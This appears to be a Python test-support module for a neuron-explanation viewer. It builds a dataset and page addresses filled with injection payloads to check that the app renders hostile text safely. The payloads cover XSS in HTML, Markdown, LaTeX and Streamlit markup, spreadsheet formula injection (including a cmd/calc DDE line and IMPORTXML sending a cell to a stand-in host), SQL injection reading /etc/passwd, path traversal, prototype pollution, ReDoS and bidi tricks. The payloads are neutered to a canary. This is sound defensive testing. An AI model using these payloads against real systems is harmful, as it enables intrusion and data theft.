"""Text that means harm, and a small dataset whose neurons, tokens and names are made of it.

Every payload that could act does one of three things: it sets `window.nvCanary`, asks for an address below
`https://canary.invalid/`, or makes something large. What is shown is looked at by who uses this.
"""

from collections.abc import Iterable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import numpy as np
import pyarrow as pa

from neuronview.store.convert import explanation_table, score_table
from neuronview.store.schema import NEURONS, records_schema
from neuronview.store.write import commit_parts, write_manifest, write_part
from tests.support import small_dataset

__all__ = ["CANARY", "HOLDERS", "HOST", "PAYLOADS", "SHORT", "addresses", "build", "of_neuron"]

CANARY = "nvCanary"
HOST = "canary.invalid"
_RUN = f"window.{CANARY}=1"
_AT = f"https://{HOST}"

_HTML = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script src={_AT}/x.js></script>",
    f"</script><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<img src=x onerror={_RUN}>",
    f'<img src="x" onerror="{_RUN}">',
    f"<img/src=x/onerror={_RUN}>",
    f"<img src={_AT}/pixel.png>",
    f"<img srcset={_AT}/pixel.png>",
    f"<image href={_AT}/x>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={_RUN}>#x'>",
    f"<svg><image href={_AT}/x /></svg>",
    f"<svg><foreignObject><body onload={_RUN}></foreignObject></svg>",
    f"<math><mtext><style><img src=x onerror={_RUN}></style></mtext></math>",
    f"<math href=javascript:{_RUN}>x</math>",
    f"<body onload={_RUN}>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{CANARY}=1</script>'></iframe>",
    f"<iframe src={_AT}></iframe>",
    f"<object data=javascript:{_RUN}></object>",
    f"<object data={_AT}/x></object>",
    f"<embed src={_AT}/x>",
    f"<video src={_AT}/x onerror={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}>",
    f"<textarea autofocus onfocus={_RUN}>",
    f"<keygen autofocus onfocus={_RUN}>",
    f"<marquee onstart={_RUN}>",
    f"<div onpointerover={_RUN} style=position:fixed;inset:0>",
    f"<a href=javascript:{_RUN}>click</a>",
    f"<a href='java\tscript:{_RUN}'>click</a>",
    f"<a href='&#106;avascript:{_RUN}'>click</a>",
    f"<base href={_AT}/>",
    f"<link rel=stylesheet href={_AT}/x.css>",
    f"<link rel=prefetch href={_AT}/x>",
    f"<meta http-equiv=refresh content='0;url={_AT}'>",
    f"<form action={_AT}><button autofocus>go</button></form>",
    f"<style>@import '{_AT}/x.css';</style>",
    f"<style>*{{background:url({_AT}/x)}}</style>",
    "<style>body{display:none}</style>",
    "<plaintext>",
    "<xmp>",
    "<!--",
    "<![CDATA[",
    "<?xml version='1.0'?>",
    "<template><h1>x</h1></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.nvCanary=1>'>",
    "<dialog open>dialog</dialog>",
    "<h1>Not a heading</h1>",
    "</div></div></div></section></main>",
    "<table><tr><td>",
    f"'-{_RUN}-'",
    f'"-{_RUN}-"',
    f'";{_RUN}//',
    f"';{_RUN}//",
    f"`${{{_RUN}}}`",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"${{{_RUN}}}",
    f"#{{{_RUN}}}",
    f"javascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"vbscript:{_RUN}",
    f'" onmouseover="{_RUN}" x="',
    f"' onmouseover='{_RUN}' x='",
    f'" autofocus onfocus="{_RUN}',
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={_RUN}&#62;",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"\\x3cimg src=x onerror={_RUN}\\x3e",
    "&nbsp;&amp;&lt;&#0;&#x110000;",
    f"＜script＞{_RUN}＜/script＞",
    f"<\u200bscript>{_RUN}</script>",
    f"<\0script>{_RUN}</script>",
    f"<img src=\u0000x onerror={_RUN}>",
    f"<x contenteditable onblur={_RUN}>x</x>",
    f"<button popovertarget=x>x</button><xss onbeforetoggle={_RUN} popover id=x>x</xss>",
    f"<img src=x:x onerror\n=\n{_RUN}>",
)
_MARKDOWN = (
    "# heading",
    "## heading\n\ntext",
    "heading\n=======",
    "heading\n-------",
    "---",
    "***",
    "> quote",
    "- item\n- item",
    "1. one\n2. two",
    "* [ ] task",
    "**bold** __bold__ *it* _it_ ~~gone~~",
    f"![picture]({_AT}/pixel.png)",
    f"[link](javascript:{_RUN})",
    f"[link]({_AT})",
    f"![a][b]\n\n[b]: {_AT}/pixel.png",
    f"<{_AT}>",
    f"{_AT}/plain",
    "www.canary.invalid",
    "a@canary.invalid",
    "[^1]: note",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "```\ncode",
    "```mermaid\ngraph TD; A-->B\n```",
    "`code",
    "``",
    "~~~\ntilde",
    "    indented code",
    "line  \nbreak\\\nbreak",
    "\\*escaped\\*",
    "<https://canary.invalid/a b>",
    "[x](<https://canary.invalid/>)",
    f"[![a]({_AT}/b)]({_AT}/c)",
    f'![a]({_AT}/b "onerror={_RUN}")',
    "Term\n: definition",
    "==marked== ^up^ ~down~ ++in++",
)
_LATEX = (
    "$x$",
    "$$\\int_0^1$$",
    "\\(x\\) \\[y\\]",
    "$\\href{javascript:window.nvCanary=1}{x}$",
    f"$\\url{{{_AT}}}$",
    f"$\\includegraphics{{{_AT}/pixel.png}}$",
    "$\\htmlClass{x}{y}$",
    "$\\htmlStyle{position:fixed}{y}$",
    "$\\def\\a{\\a\\a}\\a$",
    "$\\rule{100000em}{100000em}$",
    "$\\unknown{$",
    "$" * 40,
    "costs $5 and $6",
    "$\\color{red}{x}$",
    "$" + "{" * 200 + "}" * 200 + "$",
)
_STREAMLIT = (
    ":red[red]",
    ":red-background[red]",
    ":rainbow[all]",
    ":blue-badge[badge]",
    ":violet-badge[:material/star: x]",
    ":material/delete:",
    ":material/not_an_icon:",
    ":streamlit:",
    ":smile: :shortcake:",
    ":small[small]",
    ":primary[main]",
    ":red[:blue[:green[deep]]]",
    ":red[open",
    ":small[:red[x]",
    "<- -> <-> -- >= <= ~=",
    ":color[x]{foreground=red}",
    f":link[{_AT}]",
    ":help[x]{y}",
    ":key[x]",
    ":orange[[x](javascript:window.nvCanary=1)]",
)
_CONTROLS = (
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b[2J\x1b[H",
    f"\x1b]8;;{_AT}\x07link\x1b]8;;\x07",
    "\x9b31m",
    "a\0b",
    "\0",
    "\x01\x02\x03\x04",
    "a\x08\x08b",
    "a\rb",
    "a\r\nb",
    "a\x0bb\x0cc",
    "\x7f",
    "\x85next\u2028line\u2029paragraph",
    "\u202egnp.exe",
    "\u202dabc\u202c",
    "\u2066abc\u2069",
    "\u2067right\u2066left\u2069\u2069",
    "\u061cmark\u200e\u200f",
    "\u202e" * 50,
    "a\u200bb\u200cc\u200dd\ufeffe",
    "\u200b" * 200,
    "\ufeffstart",
    "\u00adsoft\u00adhyphen",
    "\u3164\u115f\u1160\u17b4",
    "Z" + "\u0300\u0301\u0302\u0303" * 60,
    "\u0e49" * 100,
    "שלום עולם <b>x</b>",
    "مرحبا بالعالم",
    "أ" * 300,
    "👩‍👩‍👧‍👦",
    "🏳️‍🌈🏴‍☠️👨🏿‍🚀",
    "🇩🇪🇫🇷" * 20,
    "👍🏽" * 60,
    "1️⃣#️⃣",
    "\U000e0041\U000e0042 tags",
    "\ufffd\ufffe\uffff",
    "\U0010ffff",
    "\ue000 private",
    "ﷺ﷽" * 20,
    "ℌ𝔢𝔩𝔩𝔬 𝕎𝕠𝕣𝕝𝕕",
    "раураl cyrillic",
    "İıſK",
    "ﬁ ligature",
    "\t\t\ttabs",
    " " * 200 + "x",
    "\n" * 60 + "x",
    "",
    " ",
    "Ċ ▁ ##ing </w> <|endoftext|>",
)
_FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://canary.invalid","x")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("https://canary.invalid/?",A1),"//a")',
    "＝1+1",
    '"=1+1',
    'a,b"c;d\te\nf',
)
_CODE = (
    "'; drop table neurons; --",
    '" or 1=1 --',
    "' union select content from read_text('/etc/passwd') --",
    "%' or '1'='1",
    "%_%",
    "\\",
    "{0} {x} %s %(x)s {{x}} ${x}",
    "{x.__class__.__mro__}",
    "../../etc/passwd",
    "file:///etc/passwd",
    "null",
    "NaN",
    "true",
    "[object Object]",
    "__proto__",
    "constructor",
    "toString",
    '{"__proto__": {"nvCanary": 1}}',
    "(?:a+)+$",
    "/(a|a)*b/",
)
_LARGE = (
    "x" * 20_000,
    "long " * 4_000,
    "<b>" * 3_000,
    "W" * 5_000 + "<script>window.nvCanary=1</script>",
    "[" * 3_000,
    "*" * 3_000,
    "\\" * 3_000,
)
PAYLOADS = (*_HTML, *_MARKDOWN, *_LATEX, *_STREAMLIT, *_CONTROLS, *_FORMULAS, *_CODE, *_LARGE)
LINE = "y" * 1_000_000 + f"<img src=x onerror={_RUN}>"
"""A line of a million characters, in one explanation."""
SHORT = tuple(entry for entry in PAYLOADS if 0 < len(entry) <= 300)
HOLDERS = ((0, 0), (0, 1), (0, 2), (0, 3))
"""The neurons that are explained by all payloads together; every other one by a few of them."""
_LENGTH = -(-len(PAYLOADS) // small_dataset.EXCERPTS)
"""Tokens of an excerpt: together they hold every payload once."""
_SHARE = -(-len(PAYLOADS) // len(HOLDERS))


def of_neuron(layer: int, neuron: int) -> list[str]:
    """The payloads that a neuron is explained by."""
    if (layer, neuron) in HOLDERS:
        place = HOLDERS.index((layer, neuron))
        return list(PAYLOADS[place * _SHARE : (place + 1) * _SHARE])
    return list(SHORT[neuron :: small_dataset.NEURONS_PER_LAYER][:3])


def build(folder: Path, *, line: bool = True) -> Path:
    """Write the dataset into `folder` and return it: all payloads as tokens, explanations, features, sources, names."""
    parts, found = [], []
    for layer in range(small_dataset.LAYERS):
        places = range(small_dataset.NEURONS_PER_LAYER)
        rows = [_neuron(layer, neuron) for neuron in places]
        parts.append(write_part(folder, "neurons", pa.Table.from_pylist(rows, schema=NEURONS)))
        records = [_longer(row) for neuron in places for row in small_dataset.record_rows(layer, neuron)]
        parts.append(write_part(folder, "records", pa.Table.from_pylist(records, schema=records_schema())))
        for neuron in places:
            for number, text in enumerate(of_neuron(layer, neuron)):
                value = 0.9 - 0.8 * number / _SHARE
                entry = small_dataset.explanation(layer, neuron, f"m{number} {SHORT[number][:40]}", value, text)
                found.append(replace(entry, rule=None))
    if line:
        found.append(replace(small_dataset.explanation(1, 4, "long", 0.05, LINE), rule=None))
    parts += [
        write_part(folder, "excerpts", _excerpts()),
        write_part(folder, "vocabulary", _vocabulary()),
        write_part(folder, "explanations", explanation_table(found)),
        write_part(folder, "scores", score_table(found)),
    ]
    commit_parts(folder, parts, label="<script>window.nvCanary=1</script>")
    manifest = small_dataset.manifest()
    manifest["name"] = "<img src=x onerror=window.nvCanary=1> :red[x] $x$ \u202e"
    manifest["corpus"] |= {"sources": {SHORT[0]: {SHORT[10]: 5}}, "hash": SHORT[16]}
    manifest["versions"] = {SHORT[1]: SHORT[2]}
    manifest["origin"] = {"format": SHORT[3], "explainer": SHORT[4], "erratum": "![x](https://canary.invalid/x)"}
    write_manifest(folder, manifest)
    return folder


def _longer(row: dict[str, Any]) -> dict[str, Any]:
    """A record as long as the excerpts here."""
    return row | {"activations": np.resize(row["activations"], _LENGTH)}


def _neuron(layer: int, neuron: int) -> dict[str, Any]:
    own = [entry[:300] for entry in of_neuron(layer, neuron)]
    tokens = [
        {"token": text, "token_id": number, "mean": 0.5 - number / 100, "count": 12} for number, text in enumerate(own)
    ]
    features = [{"feature": text or "empty", "correlation": 0.25} for text in own[:12]]
    return small_dataset.neuron_row(layer, neuron) | {"top_tokens": tokens, "features": features}


def _excerpts() -> pa.Table:
    """12 excerpts whose tokens are all payloads, a part in each."""
    rows = []
    for index in range(small_dataset.EXCERPTS):
        ids = range(index * _LENGTH, (index + 1) * _LENGTH)
        text = SHORT[index % len(SHORT)]
        rows.append({"excerpt_id": index, "document_id": text, "source": SHORT[index % 2], "template": text})
        rows[-1] |= {"token_ids": [number % len(PAYLOADS) for number in ids], "tokens": None}
    return pa.Table.from_pylist(rows)


def _vocabulary() -> pa.Table:
    rows = [{"token_id": number, "token": text[:2_000], "count": 12} for number, text in enumerate(PAYLOADS)]
    return pa.Table.from_pylist(rows)


def addresses(payloads: Iterable[str]) -> Iterator[str]:
    """Addresses of the pages, one for each payload, which stands in all parameters that a page reads."""
    for place, text in enumerate(payloads):
        page, names = _PARAMETERS[place % len(_PARAMETERS)]
        given = {name: text[:1_500] for name in names} | ({"layer": "0", "neuron": "0"} if page == "neuron" else {})
        yield f"{page}?{urlencode(given, errors='surrogatepass')}"


_PARAMETERS = (
    ("browse", ("q", "browse_q", "browse_sort", "browse_view", "browse_page", "browse_reader", "layer_range")),
    ("neuron", ("neuron_tab", "heat_scale", "view")),
    ("query", ("sql",)),
    ("text", ("text", "neurons", "read")),
    ("", ("dataset",)),
    ("compare", ("a", "b", "layer", "neuron", "with")),
    ("explain", ("run", "explain_which", "explain_with", "neurons")),
    ("tour", ("stop", "seen", "text")),
    ("data", ("dataset", "data_more")),
)
